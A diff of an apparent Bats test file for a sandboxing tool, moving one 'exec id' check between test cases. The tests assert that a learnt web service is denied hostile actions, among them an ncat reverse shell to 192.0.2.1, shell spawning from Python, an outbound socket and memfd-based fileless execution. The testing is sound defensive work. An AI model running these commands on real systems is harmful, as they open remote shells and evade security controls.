@@ -36,7 +36,6 @@ attacks() {
 	[ ! -e /etc/profile.d/x.sh ]
 	denied sh -c 'exec ncat 192.0.2.1 443 -e /bin/sh'
 	denied sh -c 'exec busybox sh -c id'
-	denied bash -c 'exec id'
 }
 
 @test "a web server that serves and takes its configuration again" {
@@ -50,6 +49,7 @@ attacks() {
 @test "a web service with a database" {
 	learnt python3 "$WORK/service.py"
 	attacks
+	denied bash -c 'exec id'
 	denied python3 -c 'import subprocess; subprocess.run(["/bin/sh", "-c", "id"], check=True)'
 	denied python3 -c 'import socket; socket.create_connection(("192.0.2.1", 443), 2)'
 	denied python3 -c 'import os; fd = os.memfd_create("x"); os.write(fd, open("/bin/true", "rb").read()); os.execv(f"/proc/self/fd/{fd}", ["x"])'
